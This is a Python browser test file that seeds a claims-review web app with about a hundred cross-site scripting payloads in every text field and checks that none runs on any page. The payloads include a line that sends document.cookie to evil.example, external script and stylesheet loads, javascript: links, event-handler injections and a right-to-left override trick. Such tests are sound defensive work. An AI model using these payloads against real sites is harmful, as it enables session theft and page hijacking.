"""Claim text that would like to run in the editor's browser: 100 payloads in every field, none of them runs (P22)."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

from tests.browser.visit import House, Visit
from tests.journeys.rig.story import settled

# What would show: a dialog, a mark in the page, a request to a stranger.
_DOES = (
    "alert(1)",
    "window.ran=1",
    "fetch('https://evil.example/?'+document.cookie)",
    "document.body.append(Object.assign(new Image,{src:'https://evil.example/i'}))",
)
_WAYS = (
    "<script>{does}</script>",
    "</script><script>{does}</script>",
    "<ScRiPt >{does}</sCrIpT>",
    '<script src="https://evil.example/x.js"></script>',
    '<img src=x onerror="{does}">',
    "<img src='https://evil.example/p.png' onload=\"{does}\">",
    '<svg onload="{does}"></svg>',
    '<svg><script>{does}</script><animate onbegin="{does}" attributeName=x dur=1s></svg>',
    "<svg><style>@import url(https://evil.example/s.css)</style></svg>",
    '"><script>{does}</script>',
    "' onmouseover='{does}' autofocus onfocus='{does}' x='",
    '" autofocus tabindex=1 onfocus="{does}" x="',
    "</textarea><script>{does}</script>",
    '</title><img src=x onerror="{does}">',
    '</style><iframe srcdoc="<script>parent.{does}</script>"></iframe>',
    '<iframe src="javascript:{does}"></iframe>',
    '<a href="javascript:{does}" id="ran">press</a>',
    '<form action="https://evil.example"><button formaction="javascript:{does}">go</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<link rel=stylesheet href="https://evil.example/s.css"><base href="https://evil.example/">',
    '<object data="https://evil.example/o"></object><embed src="https://evil.example/e">',
    '<video><source onerror="{does}"></video><audio src=x onerror="{does}">',
    "<div hx-get='https://evil.example/h' hx-trigger=load hx-on:load=\"{does}\" data-live='/x'>x</div>",
    "<math><mtext></p><style><img src=x onerror='{does}'></style></math>",
    "\u202e<!--><img src=x onerror={does}>--> ${{{does}}} {{{{{does}}}}} {{% raw %}} \u0007\u2066",
)
PAYLOADS = tuple(way.format(does=does) for way in _WAYS for does in _DOES)
_INCIDENTS = 4


def claims() -> Iterator[dict[str, Any]]:
    """A claim for each payload, which stands in every field of it that takes a text; four incidents in all."""
    for at, text in enumerate(PAYLOADS):
        place = {"country": "LY", "admin1": f"Province {at % _INCIDENTS}"}
        source = dict.fromkeys(("publisher", "origin", "headline", "quote"), text)
        yield {
            "source_claim_id": f"hostile-{at}",
            "claimant": {"name": f"{at} {text}", "title": text},
            "source": {**source, "url": f"https://wire.example/{at}?q=%22%3E%3Cscript%3E"},
            "event": {
                "type": "air_strike",
                "start": f"2019-0{1 + at % _INCIDENTS}-05",
                "places": [place, {"country": "LY", "admin1": place["admin1"], "name": text}],
                "summary": text,
                "participants": [text],
                "ref": f"hostile-{at % _INCIDENTS}",
            },
            "counts": [{"measure": "killed", "value": 3 + at, "victims": {"affiliation": text}}],
        }


def told(house: House) -> tuple[list[str], list[str]]:
    """The incidents and the claims."""
    answer = house.service.call("POST", "/v1/claims:batch", list(claims()))
    # A payload of characters that no text needs is refused at the door.
    ids = [str(line["claim_id"]) for line in answer.body["items"] if line["claim_id"]]
    assert len(ids) >= 70
    decision = {"decision": "same", "claims": ids[:2], "by": PAYLOADS[0], "why": PAYLOADS[-1]}
    house.service.call("POST", "/v1/judgements", decision)
    settled(house.service)
    listed = house.service.get("/v1/claims?limit=500")["items"]
    return sorted({one["incident_id"] for one in listed if one["claim_id"] in ids}), ids


def test_none_of_a_hundred_payloads_runs_on_any_page(visit: Visit) -> None:
    assert len(set(PAYLOADS)) >= 85
    incidents, ids = told(visit.house)
    page, ran = visit.page(), []

    paths = ["/", "/?text=evil", "/decisions", "/review", "/status"]
    paths += [f"/incidents/{id}?whole=yes" for id in incidents]
    paths += [f"/decisions/new?act=isolate&incident={incidents[0]}&claim={ids[0]}"]
    paths += [f"/claims/{id}{below}" for id in ids[::6] for below in ("", "/correction", "/hold")]
    for path in paths:
        page.goto(path)
        page.evaluate("document.querySelectorAll('main *').forEach((one) => one.dispatchEvent(new Event('mouseover')))")
        if page.evaluate("window.ran !== undefined || !location.href.startsWith(origin)"):
            ran.append(path)

    assert ran == []


def test_the_text_of_a_payload_is_there_to_be_read(visit: Visit) -> None:
    text = "<img src=x onerror=alert(1)>\u202egnp.exe"
    claim = {
        "source_claim_id": "hostile-shown",
        "claimant": f"Shown {text}",
        "event": {"type": "unrest", "start": "2018-01-01", "places": [{"country": "FR", "admin1": "Paris"}]},
        "counts": [{"measure": "injured", "value": 9}],
    }
    page = visit.open(f"/claims/{visit.house.post(claim)}")

    assert "<img src=x onerror=alert(1)>RLOgnp.exe" in page.locator("h1").inner_text()
    assert page.locator("h1 .unseen").get_attribute("title") == "U+202E right-to-left override"
